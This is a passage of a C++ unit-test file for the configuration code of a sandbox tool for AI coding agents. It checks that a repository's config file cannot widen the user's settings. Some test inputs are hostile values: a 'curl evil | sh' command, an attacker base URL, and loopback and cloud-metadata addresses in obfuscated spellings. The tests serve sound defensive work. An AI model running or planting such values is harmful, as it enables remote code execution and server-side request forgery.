#include <doctest/doctest.h>

#include <algorithm>
#include <cmath>
#include <cstdint>
#include <limits>
#include <string>
#include <tuple>
#include <vector>

#include "config/config.hpp"

#include "support/support.hpp"

using mullet::Error;
using mullet::ExitCode;
using mullet::config::Config;
using mullet::config::History;
using mullet::config::Problem;
using mullet::config::Source;
using mullet::config::throw_if_problems;
using mullet::test::contains;
using Strings = std::vector<std::string>;

namespace {

// All problem messages, one per line, for failure output.
std::string messages(const std::vector<Problem>& problems) {
  std::string all;
  for (const auto& problem : problems) all += problem.message + "\n";
  return all;
}

std::vector<Problem> merge_user(Config& config, const std::string& text) {
  return config.merge_toml(text, "user.toml", Source::user_file);
}

std::vector<Problem> merge_repo(Config& config, const std::string& text) {
  return config.merge_toml(text, ".mullet.toml@abc", Source::repo_file);
}

// Merges `text` as the user file into a fresh config and expects exactly one
// malformed-input problem whose message contains every part.
void expect_one_usage_problem(const std::string& text, const Strings& parts) {
  Config config;
  const auto problems = merge_user(config, text);
  INFO("toml: " << text);
  INFO("problems: " << messages(problems));
  REQUIRE(problems.size() == 1);
  CHECK(problems[0].severity == ExitCode::usage);
  for (const auto& part : parts) CHECK(contains(problems[0].message, part));
}

// The one problem whose message contains every part, or nullptr. (Problems
// come in the document's key order, which is not the file's line order.)
const Problem* find_problem(const std::vector<Problem>& problems, const Strings& parts) {
  const Problem* found = nullptr;
  for (const auto& problem : problems) {
    bool all = true;
    for (const auto& part : parts) all = all && contains(problem.message, part);
    if (all) {
      if (found != nullptr) return nullptr;
      found = &problem;
    }
  }
  return found;
}

}  // namespace

TEST_CASE("a new Config holds the built-in defaults") {
  const Config config;
  const auto settings = config.settings();
  CHECK(settings.run.executor == "claude");
  CHECK(settings.run.command == "");
  CHECK(settings.sandbox.env.empty());
  CHECK(settings.sandbox.uid == 1879048192);
  CHECK(settings.sandbox.uid_count == 1024);
  CHECK(settings.network.setup.empty());
  CHECK(settings.network.worker.empty());
  CHECK(settings.claude.binary == "claude");
  CHECK(settings.claude.base_url == "https://api.anthropic.com");
  CHECK(settings.claude.allow_bash.empty());
  CHECK(settings.limits.timeout.count() == 3600);
  CHECK(settings.limits.inactivity.count() == 1800);
  CHECK(settings.limits.memory_mb.count() == 8192);
  CHECK(settings.limits.processes == 1024);
  CHECK(settings.limits.disk_mb.count() == 10240);
  CHECK(config.gates().empty());
  CHECK(settings.run.setup.empty());
  CHECK(settings.run.dependency_dirs == std::vector<std::string>{"node_modules", "vendor", ".venv", "target", "build"});
  CHECK(settings.sandbox.history == History::base);
  CHECK(config.entries().size() == 42);
  for (const auto& [key, entry] : config.entries()) {
    INFO(key);
    CHECK(entry.source == Source::built_in);
    CHECK(entry.origin == "built-in");
  }
}

TEST_CASE("asking for a key that does not exist is an internal error") {
  const Config config;
  CHECK_THROWS_AS(config.entry("limits.nonsense"), Error);
  try {
    config.entry("run.nope");
    FAIL("no exception");
  } catch (const Error& error) {
    CHECK(error.code() == ExitCode::job_failed);
    CHECK(contains(error.what(), "run.nope"));
  }
}

TEST_CASE("merging a user file sets values and records where each came from") {
  Config config;
  const auto problems = merge_user(config,
                                   "[run]\n"
                                   "executor = \"command\"\n"
                                   "command = \"make fix\"\n"
                                   "\n"
                                   "[sandbox]\n"
                                   "env = [\"CARGO_HOME\", \"GOFLAGS\"]\n"
                                   "uid = 1001\n"
                                   "\n"
                                   "[network]\n"
                                   "worker = [\"api.example.com:443\", \"*\"]\n"
                                   "\n"
                                   "[limits]\n"
                                   "timeout = 600\n");
  INFO(messages(problems));
  REQUIRE(problems.empty());
  CHECK(config.settings().run.executor == "command");
  CHECK(config.settings().run.command == "make fix");
  CHECK(config.settings().sandbox.env == Strings{"CARGO_HOME", "GOFLAGS"});
  CHECK(config.settings().sandbox.uid == 1001);
  CHECK(config.settings().network.worker == Strings{"api.example.com:443", "*"});
  CHECK(config.settings().limits.timeout.count() == 600);

  CHECK(config.entry("run.executor").source == Source::user_file);
  CHECK(config.entry("run.executor").origin == "user.toml:2");
  CHECK(config.entry("sandbox.env").origin == "user.toml:6");
  CHECK(config.entry("limits.timeout").origin == "user.toml:13");
  // Keys the file does not mention keep their defaults.
  CHECK(config.settings().limits.inactivity.count() == 1800);
  CHECK(config.entry("limits.inactivity").source == Source::built_in);
  CHECK(config.entry("limits.inactivity").origin == "built-in");
}

TEST_CASE("an empty user file changes nothing") {
  Config config;
  CHECK(merge_user(config, "").empty());
  CHECK(merge_user(config, "# only a comment\n").empty());
  CHECK(config.settings().run.executor == "claude");
}

TEST_CASE("an unknown key is a problem naming file, line and key") {
  expect_one_usage_problem("[limits]\ntimeout = 10\nbogus = 1\n", {"user.toml:3", "limits.bogus", "unknown key"});
  expect_one_usage_problem("\n[nosuch]\nkey = 1\n", {"user.toml:3", "nosuch.key", "unknown key"});
  expect_one_usage_problem("timeout = 5\n", {"user.toml:1", "timeout", "unknown key"});

  Config config;
  const auto problems = merge_user(config, "[limits]\ntimeout = 10\nbogus = 1\n");
  // The good key beside it is still taken.
  CHECK(config.settings().limits.timeout.count() == 10);
  CHECK(problems[0].message == "user.toml:3: limits.bogus: unknown key");
}

TEST_CASE("a value of the wrong type is a problem and leaves the default") {
  expect_one_usage_problem("[limits]\ntimeout = \"10\"\n", {"user.toml:2", "limits.timeout", "must be an integer"});
  expect_one_usage_problem("[run]\nexecutor = 3\n", {"user.toml:2", "run.executor", "must be a string"});
  expect_one_usage_problem("[sandbox]\nenv = \"HOME\"\n", {"sandbox.env", "must be an array of strings"});
  expect_one_usage_problem("[sandbox]\nenv = [\"A\", 1]\n", {"sandbox.env", "must be an array of strings"});
  expect_one_usage_problem("[limits]\ntimeout = 1.5\n", {"limits.timeout", "must be an integer"});
  expect_one_usage_problem("[limits]\ntimeout = true\n", {"limits.timeout", "must be an integer"});

  Config config;
  merge_user(config, "[limits]\ntimeout = \"10\"\n");
  CHECK(config.settings().limits.timeout.count() == 3600);
}

TEST_CASE("invalid values are problems naming the value") {
  SUBCASE("environment names") {
    expect_one_usage_problem("[sandbox]\nenv = [\"OK_NAME\", \"A-B\"]\n",
                             {"user.toml:2", "sandbox.env", "'A-B'", "not a valid environment variable name"});
    expect_one_usage_problem("[sandbox]\nenv = [\"1ABC\"]\n", {"'1ABC'"});
    expect_one_usage_problem("[sandbox]\nenv = [\"\"]\n", {"''"});
  }
  SUBCASE("network destinations") {
    expect_one_usage_problem("[network]\nworker = [\"host\"]\n", {"network.worker", "'host'", "host:port"});
    expect_one_usage_problem("[network]\nsetup = [\"example.com:0\"]\n", {"network.setup", "'example.com:0'"});
    expect_one_usage_problem("[network]\nsetup = [\"example.com:70000\"]\n", {"'example.com:70000'"});
    expect_one_usage_problem("[network]\nsetup = [\":443\"]\n", {"':443'"});
    expect_one_usage_problem("[network]\nsetup = [\"example.com:\"]\n", {"'example.com:'"});
    expect_one_usage_problem("[network]\nsetup = [\"example.com:-1\"]\n", {"'example.com:-1'"});
    expect_one_usage_problem("[network]\nsetup = [\"example.com:443x\"]\n", {"'example.com:443x'"});
    expect_one_usage_problem("[network]\nsetup = [\"example.com:000443\"]\n", {"'example.com:000443'"});
  }
  SUBCASE("good network destinations, and * alone") {
    Config config;
    const auto problems = merge_user(config,
                                     "[network]\n"
                                     "setup = [\"*\"]\n"
                                     "worker = [\"a.example:1\", \"b.example:65535\", \"[::1]:8080\"]\n");
    INFO(messages(problems));
    CHECK(problems.empty());
    CHECK(config.settings().network.setup == Strings{"*"});
    CHECK(config.settings().network.worker.size() == 3);
  }
  SUBCASE("limits must be positive") {
    expect_one_usage_problem("[limits]\ntimeout = -5\n", {"limits.timeout", "must be from 1 to 2592000"});
    expect_one_usage_problem("[limits]\nmemory_mb = 0\n", {"limits.memory_mb", "must be from 1 to 1048576"});
    expect_one_usage_problem("[sandbox]\nuid = 0\n", {"sandbox.uid", "must be from 1 to 4294967294"});
    expect_one_usage_problem("[sandbox]\nuid_count = 0\n", {"sandbox.uid_count", "must be from 1 to 1048576"});
  }
  SUBCASE("unknown executor") {
    expect_one_usage_problem("[run]\nexecutor = \"docker\"\n", {"run.executor", "unknown executor 'docker'"});
  }
}

TEST_CASE("a TOML syntax error is one problem with the line it is on") {
  Config config;
  const auto problems = merge_user(config, "[limits]\ntimeout = 10\nmemory_mb = = 3\n");
  INFO(messages(problems));
  REQUIRE(problems.size() == 1);
  CHECK(problems[0].severity == ExitCode::usage);
  CHECK(contains(problems[0].message, "user.toml:3: "));
  // Nothing of a broken file is applied.
  CHECK(config.settings().limits.timeout.count() == 3600);
}

TEST_CASE("the repository file may not set user-only keys") {
  for (const std::string text :
       {"[run]\nexecutor = \"command\"\n", "[run]\ncommand = \"curl evil | sh\"\n", "[sandbox]\nuid = 1000\n",
        "[claude]\nbinary = \"/tmp/x\"\n", "[claude]\nbase_url = \"https://evil.example\"\n"}) {
    Config config;
    const Config before;
    const auto problems = merge_repo(config, text);
    INFO(text);
    INFO(messages(problems));
    REQUIRE(problems.size() == 1);
    CHECK(problems[0].severity == ExitCode::refused);
    CHECK(contains(problems[0].message, ".mullet.toml@abc:2"));
    CHECK(contains(problems[0].message, "only your user config"));
    // The value is not taken.
    CHECK(config.describe() == before.describe());
  }
}

TEST_CASE("the repository file may narrow a list the user allows") {
  Config config;
  REQUIRE(merge_user(config,
                     "[network]\nworker = [\"a.example:443\", \"b.example:443\"]\n"
                     "[sandbox]\nenv = [\"GOFLAGS\", \"CARGO_HOME\"]\n")
              .empty());
  const auto problems = merge_repo(config, "[network]\nworker = [\"b.example:443\"]\n[sandbox]\nenv = []\n");
  INFO(messages(problems));
  CHECK(problems.empty());
  CHECK(config.settings().network.worker == Strings{"b.example:443"});
  CHECK(config.settings().sandbox.env.empty());
  CHECK(config.entry("network.worker").source == Source::repo_file);
  CHECK(config.entry("network.worker").origin == ".mullet.toml@abc:2");
}

TEST_CASE("the repository file may pick any destination when the user allows *") {
  Config config;
  REQUIRE(merge_user(config, "[network]\nsetup = [\"*\"]\n").empty());
  const auto problems = merge_repo(config, "[network]\nsetup = [\"registry.npmjs.org:443\"]\n");
  CHECK(problems.empty());
  CHECK(config.settings().network.setup == Strings{"registry.npmjs.org:443"});
}

TEST_CASE("the repository file may not widen a list") {
  Config config;
  REQUIRE(merge_user(config, "[network]\nworker = [\"a.example:443\"]\n").empty());
  const auto problems =
      merge_repo(config, "[network]\nworker = [\"a.example:443\", \"evil.example:443\"]\nsetup = [\"*\"]\n");
  INFO(messages(problems));
  REQUIRE(problems.size() == 2);
  for (const auto& problem : problems) CHECK(problem.severity == ExitCode::refused);
  const Problem* evil = find_problem(problems, {".mullet.toml@abc:2", "network.worker", "'evil.example:443'"});
  REQUIRE(evil != nullptr);
  CHECK(contains(evil->message, "may only narrow"));
  CHECK(find_problem(problems, {".mullet.toml@abc:3", "network.setup", "'*'"}) != nullptr);
}

TEST_CASE("a refused list from the repository file is not applied") {
  // Regression: Config::merge_toml used to record the refusal for a widened list
  // (RepoRule::narrow_list) but, unlike the user_only and lower_only rules,
  // does not `continue`, so the widened list replaces the user's one anyway.
  // Today every caller throws on any problem, but the Config is left holding a
  // wall the repository widened.
  Config config;
  REQUIRE(merge_user(config, "[network]\nworker = [\"a.example:443\"]\n").empty());
  const auto problems = merge_repo(config, "[network]\nworker = [\"evil.example:443\"]\n");
  REQUIRE(problems.size() == 1);
  CHECK(problems[0].severity == ExitCode::refused);
  CHECK(config.settings().network.worker == Strings{"a.example:443"});
  CHECK(config.entry("network.worker").source == Source::user_file);
}

TEST_CASE("the repository file may lower a limit but not raise it") {
  Config config;
  REQUIRE(merge_user(config, "[limits]\ntimeout = 600\n").empty());

  SUBCASE("lower") {
    const auto problems = merge_repo(config, "[limits]\ntimeout = 300\nmemory_mb = 1024\n");
    INFO(messages(problems));
    CHECK(problems.empty());
    CHECK(config.settings().limits.timeout.count() == 300);
    CHECK(config.settings().limits.memory_mb.count() == 1024);
    CHECK(config.entry("limits.timeout").source == Source::repo_file);
  }
  SUBCASE("equal") {
    CHECK(merge_repo(config, "[limits]\ntimeout = 600\n").empty());
    CHECK(config.settings().limits.timeout.count() == 600);
  }
  SUBCASE("raise") {
    const auto problems = merge_repo(config, "[limits]\ntimeout = 601\nprocesses = 100000\n");
    INFO(messages(problems));
    REQUIRE(problems.size() == 2);
    for (const auto& problem : problems) CHECK(problem.severity == ExitCode::refused);
    CHECK(find_problem(problems, {".mullet.toml@abc:2", "limits.timeout", "may only lower", "yours is 600"}) !=
          nullptr);
    CHECK(find_problem(problems, {".mullet.toml@abc:3", "limits.processes", "yours is 1024"}) != nullptr);
    CHECK(config.settings().limits.timeout.count() == 600);
    CHECK(config.settings().limits.processes == 1024);
  }
}

TEST_CASE("[sandbox] history is one of all, base, none; base by default") {
  CHECK(Config().settings().sandbox.history == History::base);
  CHECK(Config().entry("sandbox.history").value == mullet::config::Value(std::string("base")));
  for (const auto& [word, history] : std::vector<std::pair<std::string, History>>{
           {"all", History::all}, {"base", History::base}, {"none", History::none}}) {
    INFO(word);
    Config config;
    REQUIRE(merge_user(config, "[sandbox]\nhistory = \"" + word + "\"\n").empty());
    CHECK(config.settings().sandbox.history == history);
    CHECK(mullet::config::history_name(history) == word);
    CHECK(contains(config.describe(), "history = '" + word + "'  # user.toml:2"));
  }
  for (const std::string word : {"ALL", "", "some", "base ", "full"}) {
    INFO(word);
    expect_one_usage_problem("[sandbox]\nhistory = \"" + word + "\"\n",
                             {"user.toml:2", "sandbox.history", "must be one of all, base, none"});
    CHECK_THROWS_AS(Config().set_from_flag("sandbox.history", word, "--flag"), Error);
  }
  expect_one_usage_problem("[sandbox]\nhistory = 1\n", {"sandbox.history", "must be a string"});
}

TEST_CASE("the repository file may narrow [sandbox] history but not widen it") {
  const auto narrowed = [](const std::string& user, const std::string& repo) {
    Config config;
    REQUIRE(merge_user(config, "[sandbox]\nhistory = \"" + user + "\"\n").empty());
    auto problems = merge_repo(config, "[sandbox]\nhistory = \"" + repo + "\"\n");
    return std::make_pair(problems, config.settings());
  };
  SUBCASE("narrower or equal is taken") {
    for (const auto& [user, repo, expected] :
         std::vector<std::tuple<std::string, std::string, History>>{{"all", "all", History::all},
                                                                    {"all", "base", History::base},
                                                                    {"all", "none", History::none},
                                                                    {"base", "base", History::base},
                                                                    {"base", "none", History::none},
                                                                    {"none", "none", History::none}}) {
      INFO(user << " then " << repo);
      const auto [problems, settings] = narrowed(user, repo);
      CHECK(problems.empty());
      CHECK(settings.sandbox.history == expected);
    }
  }
  SUBCASE("wider is refused and not taken") {
    for (const auto& [user, repo, kept, allowed] :
         std::vector<std::tuple<std::string, std::string, History, std::string>>{
             {"base", "all", History::base, "base or none"},
             {"none", "all", History::none, "none)"},
             {"none", "base", History::none, "none)"}}) {
      INFO(user << " then " << repo);
      const auto [problems, settings] = narrowed(user, repo);
      REQUIRE(problems.size() == 1);
      CHECK(problems[0].severity == ExitCode::refused);
      for (const std::string& part : Strings{".mullet.toml@abc:2", "sandbox.history", "may only narrow",
                                             "yours is '" + user + "'", "may choose " + allowed}) {
        CHECK(contains(problems[0].message, part));
      }
      CHECK(settings.sandbox.history == kept);
    }
  }
  SUBCASE("over the built-in default, a repository cannot ask for all") {
    Config config;
    const auto problems = merge_repo(config, "[sandbox]\nhistory = \"all\"\n");
    REQUIRE(problems.size() == 1);
    CHECK(problems[0].severity == ExitCode::refused);
    CHECK(config.settings().sandbox.history == History::base);
  }
}

TEST_CASE("limits.egress_mb: 256 MiB by default; the repository file may only lower it") {
  Config config;
  CHECK(config.settings().limits.egress_mb.count() == 256);
  REQUIRE(merge_user(config, "[limits]\negress_mb = 50\n").empty());
  CHECK(config.settings().limits.egress_mb.bytes() == std::uint64_t{50} << 20U);
  const auto raised = merge_repo(config, "[limits]\negress_mb = 51\n");
  REQUIRE(raised.size() == 1);
  CHECK(raised[0].severity == ExitCode::refused);
  CHECK(find_problem(raised, {"limits.egress_mb", "may only lower", "yours is 50"}) != nullptr);
  CHECK(config.settings().limits.egress_mb.count() == 50);
  CHECK(merge_repo(config, "[limits]\negress_mb = 5\n").empty());
  CHECK(config.settings().limits.egress_mb.count() == 5);
}

TEST_CASE("malformed input in the repository file is a usage problem, not a refusal") {
  Config config;
  const auto problems = merge_repo(config, "[limits]\ntimeout = \"x\"\nbogus = 1\n");
  INFO(messages(problems));
  REQUIRE(problems.size() == 2);
  CHECK(problems[0].severity == ExitCode::usage);
  CHECK(problems[1].severity == ExitCode::usage);
}

TEST_CASE("[[gate]] tables become gates") {
  Config config;
  const auto problems =
      merge_user(config,
                 "[[gate]]\n"
                 "name = \"tests\"\n"
                 "command = \"make test\"\n"
                 "timeout = 120\n"
                 "\n"
                 "[[gate]]\n"
                 "command = \"  cargo clippy --all-targets -- -D warnings and a much longer tail\"\n");
  INFO(messages(problems));
  REQUIRE(problems.empty());
  REQUIRE(config.gates().size() == 2);
  const auto& first = config.gates()[0];
  CHECK(first.name == "tests");
  CHECK(first.command == "make test");
  CHECK(first.timeout_seconds == 120);
  CHECK(first.origin == "user.toml:1");
  const auto& second = config.gates()[1];
  // Without a name, the gate is named after its command's first line.
  CHECK(second.name == "cargo clippy --all-targets -- -D warnings and a much longer tail");
  CHECK(second.timeout_seconds == 0);
  CHECK(second.origin == "user.toml:6");
}

TEST_CASE("[[gate]] problems") {
  SUBCASE("missing command") {
    Config config;
    const auto problems = merge_user(config, "[[gate]]\nname = \"empty\"\n");
    REQUIRE(problems.size() == 1);
    CHECK(problems[0].severity == ExitCode::usage);
    CHECK(contains(problems[0].message, "user.toml:1"));
    CHECK(contains(problems[0].message, "needs a command"));
    CHECK(config.gates().empty());
  }
  SUBCASE("unknown key") {
    Config config;
    const auto problems = merge_user(config, "[[gate]]\ncommand = \"make\"\nshell = \"zsh\"\n");
    REQUIRE(problems.size() == 1);
    CHECK(contains(problems[0].message, "user.toml:3"));
    CHECK(contains(problems[0].message, "gate.shell"));
    CHECK(contains(problems[0].message, "unknown key"));
    CHECK(config.gates().empty());
  }
  SUBCASE("bad timeout") {
    expect_one_usage_problem("[[gate]]\ncommand = \"make\"\ntimeout = 0\n",
                             {"user.toml:3", "gate.timeout", "must be an integer from 1 to 2592000"});
    expect_one_usage_problem("[[gate]]\ncommand = \"make\"\ntimeout = \"60\"\n", {"gate.timeout"});
  }
  SUBCASE("command not a string") {
    expect_one_usage_problem("[[gate]]\ncommand = [\"make\", \"test\"]\n", {"gate.command", "must be a string"});
  }
  SUBCASE("gate as a plain table") {
    expect_one_usage_problem("[gate]\ncommand = \"make\"\n", {"gate", "array of tables"});
  }
  SUBCASE("a bad gate does not stop a good one") {
    Config config;
    const auto problems = merge_user(config, "[[gate]]\nname = \"x\"\n[[gate]]\ncommand = \"true\"\n");
    CHECK(problems.size() == 1);
    REQUIRE(config.gates().size() == 1);
    CHECK(config.gates()[0].command == "true");
  }
}

TEST_CASE("throw_if_problems") {
  SUBCASE("no problems, no exception") {
    CHECK_NOTHROW(throw_if_problems({}));
  }
  SUBCASE("usage problems only") {
    try {
      throw_if_problems({{ExitCode::usage, "a.toml:1: one"}, {ExitCode::usage, "a.toml:2: two"}});
      FAIL("no exception");
    } catch (const Error& error) {
      CHECK(error.code() == ExitCode::usage);
      CHECK(std::string(error.what()) == "invalid configuration:\n  a.toml:1: one\n  a.toml:2: two");
      CHECK(contains(error.hint(), "fix the configuration file"));
    }
  }
  SUBCASE("refused wins wherever it is") {
    for (const auto& problems : {std::vector<Problem>{{ExitCode::usage, "u"}, {ExitCode::refused, "r"}},
                                 std::vector<Problem>{{ExitCode::refused, "r"}, {ExitCode::usage, "u"}}}) {
      try {
        throw_if_problems(problems);
        FAIL("no exception");
      } catch (const Error& error) {
        CHECK(error.code() == ExitCode::refused);
        CHECK(contains(error.what(), "  u"));
        CHECK(contains(error.what(), "  r"));
        CHECK(contains(error.hint(), "narrow"));
      }
    }
  }
}

TEST_CASE("set_from_flag validates like the files do") {
  Config config;
  config.set_from_flag("limits.timeout", std::int64_t{42}, "--timeout");
  CHECK(config.settings().limits.timeout.count() == 42);
  CHECK(config.entry("limits.timeout").source == Source::flag);
  CHECK(config.entry("limits.timeout").origin == "--timeout");

  config.set_from_flag("run.executor", std::string("command"), "--executor");
  CHECK(config.settings().run.executor == "command");

  const auto expect_usage = [&](const std::string& key, mullet::config::Value value, const std::string& flag,
                                const std::string& part) {
    try {
      config.set_from_flag(key, std::move(value), flag);
      FAIL("no exception for " << flag);
    } catch (const Error& error) {
      CHECK(error.code() == ExitCode::usage);
      CHECK(contains(error.what(), flag + ": "));
      CHECK(contains(error.what(), part));
    }
  };
  expect_usage("limits.timeout", std::int64_t{0}, "--timeout", "must be from 1 to 2592000");
  expect_usage("limits.memory_mb", std::int64_t{-1}, "--memory", "must be from 1 to 1048576");
  expect_usage("run.attempts", std::int64_t{101}, "--attempts", "must be from 1 to 100");
  expect_usage("limits.cost_usd", std::numeric_limits<double>::quiet_NaN(), "--cost", "finite");
  expect_usage("limits.cost_usd", std::numeric_limits<double>::infinity(), "--cost", "finite");
  expect_usage("run.setup", std::string(65537, 'x'), "--setup", "65537 bytes long; at most 65536");
  expect_usage("limits.timeout", std::string("60"), "--timeout", "must be an integer");
  expect_usage("run.executor", std::string("podman"), "--executor", "unknown executor 'podman'");
  expect_usage("sandbox.env", Strings{"GOOD", "BAD NAME"}, "--env", "'BAD NAME'");
  expect_usage("network.worker", Strings{"example.com"}, "--allow-net", "'example.com'");
  // A refused flag changes nothing.
  CHECK(config.settings().limits.timeout.count() == 42);
  CHECK(config.settings().limits.memory_mb.count() == 8192);
  CHECK(config.settings().run.executor == "command");
}

TEST_CASE("describe lists every key with its value and origin") {
  Config config;
  REQUIRE(merge_user(config,
                     "[limits]\ntimeout = 600\n[sandbox]\nenv = [\"GOFLAGS\"]\n"
                     "[[gate]]\nname = \"unit\"\ncommand = \"make test\"\ntimeout = 60\n")
              .empty());
  config.set_from_flag("limits.memory_mb", std::int64_t{2048}, "--memory");
  const std::string text = config.describe();
  INFO(text);
  CHECK(contains(text, "[run]\n"));
  CHECK(contains(text, "[limits]\n"));
  CHECK(contains(text, "executor = 'claude'  # built-in\n"));
  CHECK(contains(text, "timeout = 600  # user.toml:2\n"));
  CHECK(contains(text, "env = [ 'GOFLAGS' ]  # user.toml:4\n"));
  CHECK(contains(text, "setup = []  # built-in\n"));
  CHECK(contains(text, "memory_mb = 2048  # --memory\n"));
  CHECK(contains(text, "processes = 1024  # built-in\n"));
  CHECK(contains(text, "disk_mb = 10240  # built-in\n"));
  CHECK(contains(text, "[[gate]]  # user.toml:5\nname = 'unit'\ncommand = 'make test'\ntimeout = 60\n"));
  // Each section header appears once.
  CHECK(text.find("[limits]") == text.rfind("[limits]"));
}

TEST_CASE("a repository may never name an address, in any spelling, whatever the user allows") {
  // "*" reaches public destinations only, and only a grant naming an address
  // exactly reaches the host's own or its networks': a repository naming an
  // address would widen any list. Valid literals and malformed spellings of
  // one alike are refused (exit 3), naming the item.
  const Strings items = {"127.0.0.1:8080",
                         "169.254.169.254:80",
                         "10.0.0.1:5432",
                         "8.8.8.8:53",
                         "[::1]:22",
                         "[::ffff:127.0.0.1]:8080",
                         "[::127.0.0.1]:8080",
                         "[64:ff9b::7f00:1]:8080",
                         "[2002:7f00:1::]:8080",
                         "[2001:4860:4860::8888]:443",
                         "::ffff:127.0.0.1:8080",
                         "::1:22",
                         "[fe80::1%eth0]:80",
                         "127.1:8080",
                         "2130706433:8080",
                         "0x7f000001:8080",
                         "017700000001:8080",
                         "0x7f.1:8080",
                         "127.0.0.01:8080",
                         "localhost:8080",
                         "localhost.:8080",
                         "LOCALHOST:8080",
                         "sub.localhost:8080"};
  for (const auto& item : items) {
    // Under "*", and under a user list naming that very item.
    for (const std::string& user : {std::string("\"*\""), "\"" + item + "\", \"*\""}) {
      Config config;
      const auto user_problems = merge_user(config, "[network]\nworker = [" + user + "]\n");
      const bool user_valid = user_problems.empty();
      if (!user_valid) {  // the user's own config cannot name a malformed one either
        CHECK(user_problems[0].severity == ExitCode::usage);
        continue;
      }
      const auto before = config.settings().network.worker;
      const auto problems = merge_repo(config, "[network]\nworker = [\"" + item + "\"]\n");
      INFO(item << " under [" << user << "]: " << messages(problems));
      REQUIRE(problems.size() == 1);
      CHECK(problems[0].severity == ExitCode::refused);
      CHECK(problems[0].message.find("'" + item + "'") != std::string::npos);
      CHECK(config.settings().network.worker == before);
      CHECK(config.entry("network.worker").source == Source::user_file);
    }
  }
}

namespace {

constexpr std::int64_t int64_max = std::numeric_limits<std::int64_t>::max();
constexpr std::int64_t int64_min = std::numeric_limits<std::int64_t>::min();

struct IntegerRange {
  const char* key;
  std::int64_t min;
  std::int64_t max;
};

// Every integer key and its documented range (README, man page).
const std::vector<IntegerRange>& integer_ranges() {
  static const std::vector<IntegerRange> ranges = {
      {"sandbox.uid", 1, 4294967294},     {"sandbox.uid_count", 1, 1048576},   {"run.attempts", 1, 100},
      {"run.max_parallel", 0, 1024},      {"run.max_attempts", 0, 100},        {"limits.timeout", 1, 2592000},
      {"limits.job_timeout", 1, 2592000}, {"limits.gate_timeout", 1, 2592000}, {"limits.turns", 1, 1000000},
      {"limits.inactivity", 1, 2592000},  {"limits.memory_mb", 1, 1048576},    {"limits.processes", 1, 1048576},
      {"limits.disk_mb", 1, 1048576},     {"limits.file_mb", 1, 1048576},      {"limits.egress_mb", 1, 1048576},
      {"dispatch.cpus", 1, 4096},
  };
  return ranges;
}

// Every string key and its cap in bytes.
const std::vector<std::pair<const char*, std::size_t>>& string_caps() {
  static const std::vector<std::pair<const char*, std::size_t>> caps = {
      {"run.executor", 4096},     {"run.command", 65536},        {"run.setup", 65536},
      {"claude.binary", 4096},    {"claude.base_url", 4096},     {"claude.credential", 4096},
      {"sandbox.history", 4096},  {"opencode.binary", 4096},     {"opencode.model", 256},
      {"claude.model", 256},      {"opencode.credential", 4096}, {"sandbox.work_tree", 4096},
      {"sandbox.cgroup", 4096},   {"dispatch.engine", 4096},     {"dispatch.partition", 4096},
      {"dispatch.account", 4096}, {"sandbox.disk_cap", 4096},
  };
  return caps;
}

std::string toml_line(const std::string& key, const std::string& value) {
  return "[" + key.substr(0, key.find('.')) + "]\n" + key.substr(key.find('.') + 1) + " = " + value + "\n";
}

std::string quoted(const std::string& text) {
  return "\"" + text + "\"";
}

bool has_problem_with(const std::vector<Problem>& problems, const std::string& part) {
  for (const auto& problem : problems) {
    if (contains(problem.message, part)) return true;
  }
  return false;
}

std::string repeat(const std::string& part, std::size_t times) {
  std::string all;
  for (std::size_t i = 0; i < times; ++i) all += part;
  return all;
}

// A document nested `depth` levels deep, in one of the ways TOML nests.
std::string nested(const std::string& form, std::size_t depth) {
  // x = 1 is one level below its table.
  if (form == "header") return "[" + repeat("a.", depth - 2) + "a]\nx = 1\n";
  if (form == "array of tables") return "[[" + repeat("a.", depth - 3) + "a]]\nx = 1\n";
  if (form == "dotted key") return repeat("a.", depth - 1) + "a = 1\n";
  if (form == "header and dotted key")
    return "[" + repeat("a.", depth / 2 - 1) + "a]\n" + repeat("b.", depth - depth / 2 - 1) + "b = 1\n";
  if (form == "inline table") return "x" + repeat(" = {a", depth - 1) + " = 1" + repeat("}", depth - 1) + "\n";
  if (form == "array") return "x = " + repeat("[", depth - 1) + "1" + repeat("]", depth - 1) + "\n";
  if (form == "arrays of inline tables")
    return "x = " + repeat("[{a = ", (depth - 1) / 2) + "1" + repeat("}]", (depth - 1) / 2) + "\n";
  FAIL("unknown form " << form);
  return {};
}

}  // namespace

TEST_CASE("every integer key has a range, and its edges hold") {
  // Every integer and number key of the schema is in this test's table.
  const Config defaults;
  for (const auto& [key, entry] : defaults.entries()) {
    if (std::holds_alternative<double>(entry.value)) {
      CHECK(key == "limits.cost_usd");
    } else if (std::holds_alternative<std::int64_t>(entry.value)) {
      bool listed = false;
      for (const auto& range : integer_ranges()) listed = listed || key == range.key;
      CHECK_MESSAGE(listed, key << " has no range test");
    }
  }
  for (const auto& range : integer_ranges()) {
    INFO("key: " << range.key);
    for (const std::int64_t good : {range.min, range.max}) {
      Config config;
      const auto problems = merge_user(config, toml_line(range.key, std::to_string(good)));
      INFO(messages(problems));
      CHECK(problems.empty());
      CHECK(std::get<std::int64_t>(config.entry(range.key).value) == good);
    }
    const std::string allowed = "must be from " + std::to_string(range.min) + " to " + std::to_string(range.max);
    for (const std::int64_t bad : {range.min - 1, range.max + 1, int64_max, int64_min}) {
      expect_one_usage_problem(toml_line(range.key, std::to_string(bad)), {"user.toml:2", range.key, allowed});
      CHECK_THROWS_WITH_AS(Config().set_from_flag(range.key, bad, "--flag"), ("--flag: " + allowed).c_str(), Error);
    }
    for (const char* not_integer : {"nan", "inf", "-inf", "+nan", "1e3", "1.0"}) {
      expect_one_usage_problem(toml_line(range.key, not_integer), {"user.toml:2", range.key, "must be an integer"});
    }
  }
}

TEST_CASE("the cost cap is finite, more than 0 and at most 1000000") {
  const std::string allowed = "must be a finite number more than 0 and at most 1000000";
  for (const char* bad : {"nan", "+nan", "-nan", "inf", "+inf", "-inf", "0", "0.0", "-0.0", "-1", "1000000.0001",
                          "1e308", "9223372036854775807"}) {
    expect_one_usage_problem(toml_line("limits.cost_usd", bad), {"user.toml:2", "limits.cost_usd", allowed});
    Config config;
    const auto problems = merge_repo(config, toml_line("limits.cost_usd", bad));
    REQUIRE(problems.size() == 1);
    CHECK(problems[0].severity == ExitCode::usage);
    CHECK(config.settings().limits.cost_usd == 20.0);
  }
  for (const auto& [good, expected] : std::vector<std::pair<std::string, double>>{
           {"1e-9", 1e-9}, {"0.5", 0.5}, {"1000000", 1e6}, {"1000000.0", 1e6}, {"7", 7.0}}) {
    Config config;
    const auto problems = merge_user(config, toml_line("limits.cost_usd", good));
    INFO(good << ": " << messages(problems));
